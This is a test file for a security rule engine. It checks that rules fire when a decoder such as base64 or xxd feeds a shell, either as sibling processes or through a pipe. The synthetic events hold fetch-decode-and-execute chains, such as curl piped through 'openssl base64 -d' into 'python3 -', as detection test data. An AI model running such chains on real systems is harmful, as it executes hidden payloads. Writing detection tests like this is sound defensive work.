// The decoded-payload-to-shell correlation of the bundled rules, on synthetic
// exec events: siblings under one parent within two seconds, in either order.
import { resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { RuleEngine } from '../../agent/src/rules';
import { at, makeEvent } from './fixtures';

const engine = new RuleEngine({ dirs: [resolve(__dirname, '../../rules')], watch: false });
afterAll(() => engine.close());
const TITLE = 'Decoded Data Fed To A Shell By A Sibling Process';

let pid = 5000;
const exec = (exe: string, args: string[], parent: string, sec: number) => makeEvent('exec', {
  '@timestamp': at(sec),
  process: { pid: ++pid, entity_id: `ent-${pid}`, name: exe.split('/').pop(), executable: exe, args, command_line: args.join(' '),
    parent: { pid: 4000, entity_id: parent, executable: '/usr/bin/bash', command_line: 'bash /tmp/.x/run.sh' } },
});
const titles = (ev: ReturnType<typeof makeEvent>) => engine.evaluate(ev).map((m) => m.rule.title);

describe('decoded data fed to a shell by a sibling', () => {
  it('fires when a decoder and a shell start under one parent within 2 s, whichever execs first', () => {
    expect(titles(exec('/usr/bin/dash', ['sh'], 'script-a', 100))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/base64', ['base64', '-d'], 'script-a', 100.5))).toContain(TITLE);
    expect(titles(exec('/usr/bin/xxd', ['xxd', '-r', '-p'], 'script-b', 200))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/python3.11', ['python3'], 'script-b', 201))).toContain(TITLE);
  });

  it('does not fire across parents, past the window, or for an encoder', () => {
    expect(titles(exec('/usr/bin/base64', ['base64', '-d'], 'p1', 300))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/bash', ['bash'], 'p2', 300.5))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/base64', ['base64', '-d'], 'p3', 400))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/bash', ['bash'], 'p3', 405))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/base64', ['base64', '-w0'], 'p4', 500))).not.toContain(TITLE);
    expect(titles(exec('/usr/bin/bash', ['bash'], 'p4', 500.2))).not.toContain(TITLE);
  });
});

describe('decoded data piped into a shell (pipe view)', () => {
  const PIPE = 'Decoded Data Piped Into A Shell';
  const withPipeline = (lines: string[], exe = '/usr/bin/dash') => makeEvent('exec', {
    '@timestamp': at(900),
    process: { pid: ++pid, entity_id: `ent-${pid}`, executable: exe, args: [lines[lines.length - 1]] },
    vigil: { context: { stdio_socket: false, pipeline: { command_lines: lines, position: lines.length - 1 } } },
  });
  it('fires when a decoder feeds a shell on stdin, in any member', () => {
    expect(titles(withPipeline(['bash /tmp/.x/run.sh', '/usr/bin/base64 -d', '/bin/sh']))).toContain(PIPE);
    expect(titles(withPipeline(['cat blob', 'xxd -r -p', 'bash -s']))).toContain(PIPE);
    expect(titles(withPipeline(['curl -s http://x', 'openssl base64 -d', 'python3 -'], '/usr/bin/python3.11'))).toContain(PIPE);
  });
  it('does not fire for a decode into a file tool or a shell that runs a script file', () => {
    expect(titles(withPipeline(['cat blob', 'base64 -d', 'tee out.bin']))).not.toContain(PIPE);
    expect(titles(withPipeline(['cat blob', 'base64 -d', 'sh install.sh']))).not.toContain(PIPE);
    expect(titles(withPipeline(['cat blob', 'base64', 'sh']))).not.toContain(PIPE);
  });
});
